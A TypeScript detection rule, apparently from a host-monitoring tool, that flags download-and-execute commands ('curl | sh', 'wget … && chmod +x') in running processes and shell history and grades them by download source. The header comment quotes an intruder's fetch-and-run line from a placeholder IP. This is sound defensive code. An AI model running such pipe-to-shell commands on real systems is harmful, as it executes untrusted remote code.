// Download-and-execute in running command lines or shell history (curl | sh, wget -O x && chmod +x x).
//
// How much it says depends on where the code came from. Intruders fetch over plain HTTP from an address, a paste or
// file-drop site, a dynamic-DNS name, or with certificate checks off (Kinsing's `curl -s http://<ip>/d.sh | sh`,
// TeamTNT's, 8220's, WatchDog's pastebin): high. A script fetched over verified HTTPS from a named host outside the
// site is how vendors document their installers, the known ones of which are a baseline: low, for someone to
// confirm what was installed. From a host inside the site (an artifact server's bootstrap): medium.
import { vendorInstaller } from "../baselines/index.js";
import { processLabel, rowsOf, str } from "../rows.js";
import { defineDetection, type DetectionHit } from "./detection.js";
import { downloadThenRun, fetchedFrom, PIPE_TO_SHELL } from "./patterns.js";

function matches(command: string): boolean {
  return PIPE_TO_SHELL.test(command) || downloadThenRun(command);
}

export const downloadExecute = defineDetection({
  id: "download-execute",
  title: "Download and execute",
  reads: { processes: ["pid", "name", "path", "cmdline", "uid"], shell_history: ["uid", "command", "history_file"] },
  severity: "high",
  attack: ["T1105", "T1059.004"],
  maturity: "test",
  category: "execution",
  false_positives: "Internal bootstrap scripts fetched with curl | bash from an artifact server.",
  advice: {
    triage: ["Fetch (without running) the URL from the command on {hosts} and hash the content."],
    containment: ["Block the download host at the egress proxy for {hosts}."],
    investigation: ["List files written right after the download and processes started from them."],
    remediation: ["Replace curl | sh bootstraps with signed packages or pinned checksums."],
  },
  evaluate(host) {
    const hits: DetectionHit[] = [];
    for (const row of rowsOf(host, "processes")) {
      const cmdline = str(row, "cmdline");
      if (!matches(cmdline)) continue;
      const pid = str(row, "pid");
      const vendor = vendorInstaller(cmdline);
      if (vendor) {
        hits.push({ summary: `${processLabel(row, pid)} (pid ${pid}) runs a vendor's documented installer (${vendor.source}): ${cmdline.slice(0, 120)}`, evidence: [{ table: "processes", row }], entity: `pid:${pid}`, kept_by: vendor.baseline });
        continue;
      }
      const from = fetchedFrom(cmdline);
      hits.push({
        summary: `${processLabel(row, pid)} (pid ${pid}) is running a download-and-execute command${from ? ` ${from.why}` : ""}: ${cmdline.slice(0, 120)}`,
        evidence: [{ table: "processes", row }],
        entity: `pid:${pid}`,
        ...(from ? { severity: from.severity } : {}),
      });
    }
    for (const row of rowsOf(host, "shell_history")) {
      const command = str(row, "command");
      if (!matches(command)) continue;
      const vendor = vendorInstaller(command);
      if (vendor) {
        hits.push({ summary: `Shell history (uid ${str(row, "uid") || "?"}) runs a vendor's documented installer (${vendor.source}): ${command.slice(0, 120)}`, evidence: [{ table: "shell_history", row }], entity: `history:${str(row, "uid")}`, kept_by: vendor.baseline });
        continue;
      }
      const from = fetchedFrom(command);
      hits.push({
        summary: `Shell history (uid ${str(row, "uid") || "?"}) shows a download-and-execute${from ? ` ${from.why}` : ""}: ${command.slice(0, 120)}`,
        evidence: [{ table: "shell_history", row }],
        entity: `history:${str(row, "uid")}`,
        ...(from ? { severity: from.severity } : {}),
      });
    }
    return hits;
  },
});
